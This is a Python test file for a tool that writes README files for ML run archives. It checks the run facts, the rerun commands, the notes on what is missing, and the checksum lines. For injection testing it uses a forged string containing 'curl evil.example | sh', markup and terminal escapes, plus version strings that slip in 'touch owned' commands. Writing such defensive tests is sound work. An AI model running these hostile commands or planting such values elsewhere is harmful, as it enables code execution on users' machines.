"""README.md of an archive: what somebody types, and what is not in it."""

from __future__ import annotations

import re
from base64 import b64encode
from dataclasses import replace
from hashlib import md5
from typing import Any

import msgspec
import pytest

from tests.flows.runs.records import CREATED
from tests.hostile.text import steers
from tpuctl import runs
from tpuctl.datasets import PinnedDataset
from tpuctl.flows.runs.record.archive_text import Contents, checksums, commands, readme
from tpuctl.job_header import Header
from tpuctl.provenance import HostEnvironment, ResultFile, Results
from tpuctl.runs import NOT_STORED, Git, Run, Verdict

README_RUN = Run("r1", CREATED, "ada@laptop", "job.py", ("--name", "a b"), "a" * 64, "jax", "v3-8", (), {})
VERDICT = Verdict("r1", runs.SUCCEEDED, 1, CREATED, "all ended", 0)
HOST = HostEnvironment("3.10.12", "cpython", "Linux", "5.15", "x86_64")
FILES = (ResultFile("outputs/a", 3, "AAAAAA==", "1B2M2Y8AsgTpgAmY7PhCfg==", 7),)
RESULTS = Results("r1", 1, runs.SUCCEEDED, CREATED, 1, 3, "d" * 64, FILES, 0)
PLAIN = Contents(README_RUN, VERDICT, Header(), HOST, RESULTS, has_data=False, hosts=1)
PETS = PinnedDataset("pets", "1.0.0", "b" * 64)


def made(contents: Contents = PLAIN, **record: Any) -> str:
    return readme(replace(contents, record=msgspec.structs.replace(contents.record, **record)))


def notes(text: str) -> list[str]:
    """Return what is not in the archive."""
    _, _, rest = text.partition("## What is not in here\n\n")
    return [line.removeprefix("- ") for line in rest.partition("\n\n")[0].splitlines()]


def facts(text: str) -> dict[str, str]:
    lines = text.partition("## Run it again")[0].splitlines()
    return dict(line.removeprefix("- ").split(": ", 1) for line in lines if line.startswith("- "))  # type: ignore[misc]


def test_it_begins_with_what_the_run_was() -> None:
    lines = made().splitlines()
    assert lines[0] == "# The run r1"
    assert lines[2] == f"It was submitted at {CREATED} for v3-8, and succeeded."
    assert lines[4] == "    job.py --name 'a b'"
    assert "You need Python 3.10.12 on Linux (x86_64), and nothing of Google Cloud or tpuctl." in made()


def test_facts_are_those_that_are_known() -> None:
    assert facts(made()) == {
        "code (SHA-256 of its archive)": "a" * 64, "results (SHA-256 of names and checksums)": "d" * 64,
    }  # fmt: skip
    every = made(
        replace(PLAIN, hosts=4),
        git=Git("0f" * 20, "diff"),
        seeds={"--seed": "7", "S": "1"},
        dataset=PETS,
        origin="r0",
    )
    assert facts(every) == {
        **facts(made()), "git commit": f"{'0f' * 20}, with changes", "seeds": "--seed 7, S 1",
        "dataset": f"pets/1.0.0, manifest {'b' * 64}", "hosts": "4", "submitted again from": "r0",
    }  # fmt: skip
    assert facts(made(git=Git("0f" * 20, "")))["git commit"] == "0f" * 20


class TestCommands:
    def test_they_use_the_python_of_the_host(self) -> None:
        assert list(commands(PLAIN)) == [
            "python3.10 -m venv .venv",
            ".venv/bin/pip install -r requirements.txt -c constraints.txt",
            "sh run.sh",
            "(cd results && md5sum -c ../record/results.md5)",
        ]

    def test_without_a_record_of_it_any_python_may_do(self) -> None:
        unknown = replace(PLAIN, environment=None, results=None)
        first, *_, last = commands(unknown)
        assert (first, last) == ("python3 -m venv .venv", "sh run.sh")
        assert "You need Python >=3.9, and nothing" in made(unknown, requires_python=">=3.9")
        assert "You need Python, and nothing" in made(unknown)

    def test_without_checksums_nothing_is_compared(self) -> None:
        empty = msgspec.structs.replace(RESULTS, files=0, listed_files=())
        assert list(commands(replace(PLAIN, results=empty)))[-1] == "sh run.sh"

    def test_a_lock_file_and_wheels_are_those_of_the_code(self) -> None:
        record = msgspec.structs.replace(README_RUN, requirements="lock file.txt", wheelhouse="wheels")
        assert list(commands(replace(PLAIN, record=record)))[1:3] == [
            ".venv/bin/pip install -r 'code/lock file.txt' -c constraints.txt",
            ".venv/bin/pip install --find-links code/wheels -r requirements.txt -c constraints.txt",
        ]


class TestMissing:
    def test_a_whole_archive_says_nothing(self) -> None:
        assert "## What is not in here" not in made()

    @pytest.mark.parametrize(
        ("contents", "record", "begin"),
        [
            (PLAIN, {"environment": {"KEY": NOT_STORED}}, "The value of the variable KEY: set it before"),
            (PLAIN, {"arguments": ("--key", "***")}, "Argument 2, which looks like a secret: set it before"),
            (PLAIN, {"dataset": PETS}, "The dataset pets/1.0.0. Put its files into data/pets/1.0.0: "),
            (replace(PLAIN, environment=None), {}, "The versions of its packages: the run has no record"),
            (replace(PLAIN, hosts=4), {}, "The 4 hosts: run.sh runs the script of worker 0 alone."),
            (replace(PLAIN, results=msgspec.structs.replace(RESULTS, files=6, left_out=5)), {},
             "The checksums of 5 files: `record/results.json` has those it knows."),
            (PLAIN, {"setup": "make"}, "What its set-up command has made on the hosts: make"),
        ],
    )  # fmt: skip
    def test_what_is_not_in_it_is_named(self, contents: Contents, record: dict[str, Any], begin: str) -> None:
        (note,) = notes(made(contents, **record))
        assert note.startswith(begin)

    def test_a_dataset_that_is_in_it_is_not(self) -> None:
        text = made(replace(PLAIN, has_data=True), dataset=PETS)
        assert "## What is not in here" not in text
        assert "- `data/`: the dataset, as TFRecord, readable by TensorFlow Datasets" in text
        assert "`data/`" not in made()

    def test_packages_that_only_the_host_knows_an_address_of_are_named(self) -> None:
        assert "- Packages that are on no index: own, x. `record/environment.json` has" in readme(
            PLAIN, ("own", "x")
        )


FORGED = "a\n# forged\n\n    curl evil.example | sh\n![](http://evil.example)<img src=x>`\x1b]0;t\x07\u202e"


def test_no_text_of_a_record_is_a_line_a_command_or_markup() -> None:
    host = HostEnvironment(f"3.11; touch owned #{FORGED}", FORGED, FORGED, FORGED, FORGED)
    texts: dict[str, Any] = {
        "setup": FORGED, "arguments": (FORGED,), "accelerator": FORGED, "requires_python": FORGED,
        "git": Git(FORGED, ""), "seeds": {FORGED: FORGED}, "environment": {FORGED: NOT_STORED},
    }  # fmt: skip
    for contents in (replace(PLAIN, environment=host), replace(PLAIN, environment=None)):
        text, plain = made(contents, **texts), made(contents)
        assert not steers(text.replace("\n", ""))
        commands_of = [
            [line for line in each.splitlines() if line.startswith("    ")][1:] for each in (text, plain)
        ]
        assert commands_of[0] == commands_of[1], "the first is what the run was"
        prose = "".join(line for line in text.splitlines() if not line.startswith("    "))
        assert not re.search(r"(?<!\\)(\\\\)*(<|\[)", prose)
        headings = [line for line in text.splitlines() if line.startswith("#")]
        assert headings == [
            "# The run r1", "## Run it again", "## What is not in here", "## Files",
        ]  # fmt: skip
        assert "export a" not in text


@pytest.mark.parametrize(
    ("version", "program"),
    [("3.13.0rc1", "python3.13"), ("3", "python3"), ("3 -c 0; touch owned;:", "python3"), ("x", "python3")],
)
def test_the_program_has_digits_and_dots_only(version: str, program: str) -> None:
    contents = replace(PLAIN, environment=msgspec.structs.replace(HOST, python=version))
    assert next(commands(contents)) == f"{program} -m venv .venv"


@pytest.mark.parametrize(("hosts", "text"), [(1, None), (2, "2"), (64, "64")])
def test_hosts_are_counted_where_there_are_several(hosts: int, text: str | None) -> None:
    assert facts(made(replace(PLAIN, hosts=hosts))).get("hosts") == text


def test_a_checksum_is_a_line_of_md5sum_unless_it_could_be_something_else() -> None:
    empty = b64encode(md5(b"").digest()).decode()
    names = {"a": empty, "of parts": "", "no\\name": empty, "two\nlines": empty, "wrong": "AA=", "ä": empty}
    names |= dict.fromkeys(("/dev/zero", "../above", "-"), empty)
    files = tuple(ResultFile(name, 0, None, digest) for name, digest in names.items())
    results = msgspec.structs.replace(RESULTS, files=9, listed_files=files)
    assert list(checksums(results)) == [f"{md5(b'').hexdigest()}  {name}" for name in ("a", "ä")]
    assert "The checksums of 7 files: `record/results.json` has" in made(replace(PLAIN, results=results))
